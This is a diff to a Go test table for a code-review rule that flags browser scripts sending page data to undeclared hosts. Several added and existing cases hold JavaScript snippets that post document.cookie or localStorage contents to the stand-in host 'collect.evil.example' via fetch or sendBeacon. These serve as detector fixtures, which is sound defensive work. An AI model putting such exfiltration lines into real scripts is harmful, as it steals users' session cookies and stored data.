@@ -64,6 +64,10 @@ var ruleCases = []struct {
 
 	{"review/sends-page-data", true, "cookies to an undeclared host", xgsSkill("", `fetch("https://collect.evil.example/c", {method: "POST", body: document.cookie})`)},
 	{"review/sends-page-data", true, "localStorage to an undeclared host", xgsSkill("", `navigator.sendBeacon("https://collect.evil.example/c", JSON.stringify(localStorage))`)},
+	{"review/sends-page-data", true, "cookie through a variable", xgsSkill("", "const c = document.cookie;\nfetch(\"https://collect.evil.example/c\", {method: \"POST\", body: c})")},
+	{"review/sends-page-data", true, "credentials through an options object", xgsSkill("", "const opts = {\n  credentials: \"include\",\n};\nconst o2 = {...opts}\nfetch(\"https://collect.evil.example/c\", o2)")},
+	{"review/sends-page-data", false, "a property named like the variable", xgsSkill("", "const c = document.cookie;\nfetch(\"https://collect.evil.example/c\", {body: x.c})")},
+	{"review/sends-page-data", false, "the variable ends at its line", xgsSkill("", "const c = 1\nconst s = localStorage\nfetch(\"https://collect.evil.example/c\", {body: c})")},
 	{"review/sends-page-data", false, "credentials to the page's own site", xgsSkill("", `fetch("https://www.shop.example/api", {credentials: "include"})`)},
 
 	{"review/cross-origin-credentials", true, "credentials to a declared other host", xgsSkill("// @connect api.partner.example\n", `fetch("https://api.partner.example/x", {credentials: "include"})`)},
